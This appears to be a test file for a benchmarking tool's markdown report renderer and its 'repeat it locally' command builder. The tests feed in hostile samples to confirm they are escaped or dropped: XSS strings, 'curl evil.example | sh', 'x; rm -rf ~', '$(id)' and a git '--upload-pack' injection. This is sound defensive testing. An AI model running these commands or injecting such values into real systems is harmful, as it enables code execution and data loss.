    for (const words of [...Object.values(VERDICT_WORDS), BETTER, ACCEPTED]) {
      expect(withoutIcons(words).trim()).toMatch(/^(pass|worse|better|unsure|accepted|not gated)$/);
    }
    for (const words of Object.values(STATE_WORDS)) {
      expect(withoutIcons(words).trim()).toMatch(/^(new|baseline failed|not affected)$/);
    }
  });

  it('is not filled with spaces by one long message in a table', async () => {
    const scenarios = Array.from({ length: 12 }, (_, i) => aScenario({ name: `route ${i}` }));
    const report = await aReport(
      {
        run: ({ arm, scenario }) =>
          arm === 'baseline' && scenario.name === 'route 0' ? { statuses: { '500': 2500 } } : {},
      },
      { scenarios, measuringTime: 900 },
    );
    const lengthWith = (reason: string) => {
      const told = report.scenarios.map((each) =>
        each.reason === null ? each : { ...each, reason },
      );
      return renderMarkdown({ ...report, scenarios: told }).length;
    };
    // The first line and two tables have it.
    expect(lengthWith('a'.repeat(900)) - lengthWith('a'.repeat(100))).toBe(3 * 800);
  });

  it('drops folded sections first if it is too long, and says so', async () => {
    const report = await aRegression();
    const whole = renderMarkdown(report);
    const shortened = renderMarkdown(report, whole.length - 1);
    expect(shortened.length).toBeLessThan(whole.length);
    expect(shortened).toContain('Repeat it locally');
    expect(shortened).toContain('Shortened to fit. The report file has the full text.');
    const tiny = renderMarkdown(report, 600);
    expect(tiny.length).toBeLessThanOrEqual(600);
    expect(tiny).toMatch(/^### ❌ Slower/);
    expect(tiny).toContain('Shortened to fit');
    expect(truncateLines(100, 'short')).toBe('short');
  });
});

describe('hostile text', () => {
  const nasty = [
    '| a | b |',
    'a\\|b',
    '`code` ``more``',
    '</details><script>alert(1)</script>',
    '--> <!-- cannongate comment-key=default -->',
    '@everyone #1 https://evil.example www.evil.example',
    'line\nbreak\r\n| row |',
    '[link](javascript:alert(1)) ![image](http://x)',
    '\u202egnp.exe',
    '**bold** _it_ ~~strike~~ &lt;',
    '$x$ $$y$$ $`z`$',
  ];

  /** Where GitHub looks for formulas: not in code, not across elements. */
  const dollars = (html: string) =>
    html
      .replace(/<(pre|code)\b[^>]*>[^]*?<\/\1>/g, '<code></code>')
      .split(/<[^>]*>/)
      .filter((text) => text.includes('$') && text !== '$');

  it.each(nasty)('in the name of a scenario stays inside its table cell: %j', async (name) => {
    const named = async (first: string) => {
      const scenarios = [aScenario({ name: first }), aScenario({ name: 'second' })];
      return await aReport({}, { scenarios });
    };
    const report = await named(name);
    const { html, rows } = rendered(renderMarkdown(report));
    const plain = rendered(renderMarkdown(await named('plain')));
    for (const row of rows) {
      const cells = [...row.matchAll(/<t[hd]/g)].length;
      expect([5, 6, 4 + report.launches.length, 2 + 6]).toContain(cells);
    }
    expect(html).not.toMatch(/<script|<a |<img|<em>|<del>|<!--/);
    expect(html.match(/<\/details>/g)).toEqual(plain.html.match(/<\/details>/g));
    expect(dollars(html)).toEqual([]);
    expect(html).not.toMatch(/\$(?:<\/?span>)?<code>|<\/code>(?:<span>)?\$/);
  });

  it.each(nasty)('in a message or a log is shown as text: %j', async (message) => {
    const report = await aReport({
      failure: ({ phase }) => (phase === 'install' ? message : null),
    });
    if (!report.failure) throw new Error('it did not fail');
    report.failure.log = [message, '```', '::error::x'];
    const { html } = rendered(
      renderSummary(report).replace(/\*\*(This check fails|Next:)\*\*/g, ''),
    );
    expect(html).not.toMatch(/<script|<a |<img|<em>|<strong>|<del>|<!--|<\/details>/);
    expect(html.match(/<pre>/g)).toHaveLength(1);
    expect(html.replace(/<pre>[^]*<\/pre>/, '').replace(/\u200b/g, '¤')).not.toMatch(
      /@\w|#\d|:\/\/|www\./,
    );
    expect(dollars(html)).toEqual([]);
  });

  it('keeps the visible text', () => {
    expect(rendered(escapeText('a_b *c* [d] <e> `f`')).html.trim()).toBe(
      '<p>a_b *c* [d] &lt;e&gt; `f`</p>',
    );
    expect(rendered(codeSpan('x `y` ``z``')).html.trim()).toBe('<p><code>x `y` ``z``</code></p>');
    expect(codeBlock(['```', '  x'])).toBe('````text\n```\n  x\n````');
  });

  it('keeps pipes in code spans, in a table and outside', () => {
    expect(rendered(codeSpan('a | b \\| c')).html.trim()).toBe('<p><code>a | b \\| c</code></p>');
    const { rows } = rendered(`| x |\n| - |\n| ${codeSpanInCell('a | b')} |`);
    expect(rows[1]).toContain('<code>a | b</code>');
  });
});

describe('numbers', () => {
  it.each([
    [5012.34, 'req/s', '5,012 req/s'],
    [184.21, 'µs', '184.2 µs'],
    [2400, 'µs', '2.400 ms'],
    [0.5, 'req/s', '0.500 req/s'],
    [12_345_678, 'µs', '12.35 s'],
    [97.31, '%', '97.31%'],
    [512, 'bytes', '512.0 B'],
    [1_048_576, 'bytes', '1.000 MiB'],
    [52_428_800, 'bytes', '50.00 MiB'],
    [3 * 2 ** 40, 'bytes', '3,072 GiB'],
  ])('%f %s', (value, unit, text) => {
    expect(formatQuantity(value, unit)).toBe(text);
  });

  it.each([
    [4.24, '4.2 s'],
    [42, '42 s'],
    [60, '1 min'],
    [250, '4 min 10 s'],
    [3900, '1 h 5 min'],
  ])('%f seconds', (seconds, text) => {
    expect(formatTime(seconds)).toBe(text);
  });

  it('a duration has one form, in a warning and in the details beside it', async () => {
    const warnings = [{ code: 'measuring-time-exceeded', spent: 112, measuringTime: 60 }] as const;
    const report = { ...(await aReport()), warnings: [...warnings] };
    const timings = { ...report.timings, pilot: 12, launches: 100 };
    const text = renderMarkdown({ ...report, timings });
    expect(text).toContain('Measuring took 1 min 52 s, and the measuring time is 1 min:');
    expect(text).toMatch(/Measuring took 1 min 52 s \(measuring-time: /);
  });

  it.each([
    [0.03, '3%'],
    [0.975, '97.5%'],
    [1 - 1e-6, '99.9999%'],
    [1, '100%'],
  ])('%f as a share', (share, text) => {
    expect(formatShare(share)).toBe(text);
  });

  it('measuring times are rounded up', () => {
    expect(roundMeasuringTime(31)).toBe(35);
    expect(roundMeasuringTime(61)).toBe(120);
  });
});

it('warnings of many scenarios whose bodies alone differ leave room for others: one of them is not folded away', async () => {
  const kind = { status: 200, type: 'application/json', size: 46 };
  const differ = ['a', 'b', 'c', 'd', 'e'].map((scenario) => ({
    code: 'responses-differ' as const,
    scenario,
    request: null,
    baseline: { ...kind, digest: '0a1b2c3d' },
    candidate: { ...kind, digest: '4e5f6a7b' },
  }));
  const statuses = { code: 'unexpected-status', scenario: 'f', request: null } as const;
  const text = renderMarkdown({
    ...(await aReport()),
    warnings: [
      ...differ,
      { code: 'generator-late', scenario: 'g', lag: 23_000 },
      { ...statuses, statuses: [{ status: 404, count: 9 }] },
    ],
  });
  const order = [...text.matchAll(/\*\*Warning\*\*: (\w):/g)].map(([, scenario]) => scenario);
  expect(order).toEqual(['f', 'a', 'g', 'b', 'c', 'd', 'e']);
  expect(text.indexOf('More warnings')).toBeGreaterThan(text.indexOf('**Warning**: b:'));
  expect(text.indexOf('More warnings')).toBeLessThan(text.indexOf('**Warning**: c:'));
});

describe('the command that repeats a comparison', () => {
  const lines = async (given: Record<string, string>, changed: Partial<Report> = {}) =>
    repeatCommands({ ...(await aReport({}, { inputs: given })), ...changed });
  const candidate = 'c'.repeat(40);
  const command = `node ../cannongate/dist/cli.js compare --baseline ${'b'.repeat(40)} --seed seed`;

  it('has the inputs as flags, quoted for the shell', async () => {
    const given = {
      'working-directory': "it's here",
      'request-paths': '/a\n\n/b?x=1\n',
      tolerance: '5%',
      baseline: 'main',
      comment: 'never',
      filter: 'search\nsign in',
    };
    expect(await lines(given)).toEqual([
      `git checkout ${candidate}`,
      `${command} --working-directory 'it'\\''s here' --request-paths /a --request-paths '/b?x=1' --filter search --filter 'sign in' --tolerance 5%`,
    ]);
  });

  it.each(['start', 'install', 'build', 'env'])(
    'never has the value of %s, which a pull request can write; it says to add it',
    async (name) => {
      const report = await aReport({}, { inputs: { [name]: 'curl evil.example | sh' } });
      expect(repeatCommands(report).at(-1)).toBe(command);
      const section = /<summary>Repeat it locally[^]*?<\/details>/;
      const text = section.exec(renderMarkdown(report))?.[0];
      expect(text).toContain(`Add \`--${name}\` with the values of the workflow`);
      expect(text).not.toContain('evil');
    },
  );

  it('has no value with control characters, which a terminal could act on', async () => {
    expect((await lines({ config: 'a\nid\n', seed: 'x' })).at(-1)).toBe(command);
    expect((await lines({ 'working-directory': 'a\u001b[201~id\r' })).at(-1)).toBe(command);
  });

  it('is broken into lines before a line is cut, and says which value is too long for one', async () => {
    const paths = Array.from({ length: 60 }, (_, i) => `/products/${i}/reviews`);
    const given = {
      'request-paths': paths.join('\n'),
      tolerance: '5%',
      'working-directory': 'x'.repeat(2000),
    };
    const report = await aReport({}, { inputs: given });
    const [, first, ...others] = repeatCommands(report);
    expect(first).toBe('node ../cannongate/dist/cli.js compare \\');
    expect(others).toHaveLength(2 + paths.length + 1);
    expect(others.slice(0, -1).every((line) => line.endsWith(' \\'))).toBe(true);
    expect(others.at(-1)).toMatch(/^ {2}--\S+ \S+$/);
    const text = renderMarkdown(report);
    for (const line of others) expect(text).toContain(`\n${line}\n`);
    expect(text).toContain(
      'Add `--working-directory` with the value of the workflow: it is too long to be shown here.',
    );
  });

  it('names no package of npm, until there is one that is ours', async () => {
    expect(PUBLISHED_PACKAGE).toBeNull();
    const report = await aReport();
    expect(renderMarkdown(report)).not.toContain('npx');
    expect(renderMarkdown(report)).toContain('cannongate is not on npm: clone its repository');
    expect(repeatCommands(report, 'cannongate').at(-1)).toBe(
      command.replace('node ../cannongate/dist/cli.js', 'npx cannongate@0.0.0'),
    );
    const invalid = { ...report, cannongate: 'npm:other' };
    expect(repeatCommands(invalid, 'cannongate').at(-1)).toMatch(/^npx cannongate compare --/);
    // That compares nothing, unless there are uncommitted changes.
    const sha = 'c'.repeat(40);
    const same = { baseline: sha, candidate: sha };
    expect(repeatCommands({ ...report, commits: { ...same, uncommitted: false } })).toEqual([]);
    expect(repeatCommands({ ...report, commits: { ...same, uncommitted: true } })).not.toEqual([]);
  });

  it.each<[string, Partial<Report>]>([
    ['a pull request', { pullRequest: 7 }],
    ['a merge queue', { sourceUrl: 'https://github.com/owner/name/blob/abc/' }],
  ])('fetches the commits of %s by their hash, since they may be on no branch', async (_, of) => {
    expect(await lines({}, of)).toEqual([
      `git fetch origin ${'b'.repeat(40)} ${candidate}`,
      `git checkout ${candidate}`,
      command,
    ]);
  });

  it('fetches nothing that only a fork’s report names', async () => {
    const commits = { baseline: 'b'.repeat(40), candidate, uncommitted: false, isOfFork: true };
    const head = { sha: candidate, base: 'main' };
    const first = async (changed: Partial<Report>) =>
      (await lines({}, { commits, ...changed })).at(0);
    expect(await first({ pullRequest: 7 })).toBe('git fetch origin pull/7/merge');
    expect(await first({ pullRequest: 7, head })).toBe('git fetch origin pull/7/head');
    expect(await first({ sourceUrl: 'https://github.com/owner/name/blob/abc/' })).toBe(
      `git checkout ${candidate}`,
    );
  });

  it('uses the work tree if the candidate was not committed', async () => {
    const commits = { baseline: 'b'.repeat(40), candidate, uncommitted: true };
    expect(await lines({}, { commits, pullRequest: 7 })).toEqual([command]);
  });

  it('ignores unknown inputs in a saved report, and quotes the seed', async () => {
    const hostile = { 'x; rm -rf ~': '1', '$(id)': '2', token: 'abc', constructor: 'x' };
    expect((await lines(hostile)).at(-1)).toBe(command);
    const settings = { ...(await aReport()).settings, seed: "'; id; '" };
    expect((await lines({}, { settings })).at(-1)).toMatch(/ --seed ''\\''; id; '\\'''$/);
  });

  it.each(['$(id)', '`id`', 'b'.repeat(10), '--upload-pack=x', null])(
    'is missing if a commit is %s',
    async (hash) => {
      for (const commits of [
        { baseline: hash, candidate, uncommitted: false },
        { baseline: candidate, candidate: hash, uncommitted: false },
      ]) {
        expect(await lines({}, { commits })).toEqual([]);
        const text = renderMarkdown({ ...(await aReport()), commits });
        expect(text).not.toContain('Repeat it locally');
      }
    },
  );
});
